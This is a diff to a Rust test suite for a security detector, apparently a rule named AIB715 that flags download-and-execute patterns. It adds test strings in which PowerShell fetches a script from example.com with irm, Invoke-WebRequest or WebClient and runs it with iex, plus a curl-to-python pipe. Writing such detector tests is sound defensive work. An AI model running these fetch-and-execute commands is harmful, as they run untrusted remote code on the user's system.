@@ -331,8 +331,19 @@ fn piped_script() {
             "<# irm x | iex #>",
             "$t = @'\nirm x | iex\n'@",
             "iex 'Get-Date'",
+            "$x = irm https://example.com/x; $x = 'Get-Date'; iex $x",
+            "$x = irm https://example.com/x -OutFile y; iex $x",
+            "$x = Get-Content y; irm https://example.com/x; iex $x",
         ],
     );
+    for script in [
+        "$x = irm https://example.com/x; iex $x",
+        "$x = Invoke-WebRequest https://example.com/x\nGet-Date\nInvoke-Expression $($X.Content)",
+        "$x = (New-Object Net.WebClient).DownloadString('https://example.com/x')\niex $x",
+    ] {
+        assert_eq!(windows(script), ["AIB715"], "{script}");
+    }
+    assert_eq!(linux("curl -s https://example.com/x | python3.11"), ["AIB715"]);
 }
 
 #[test]
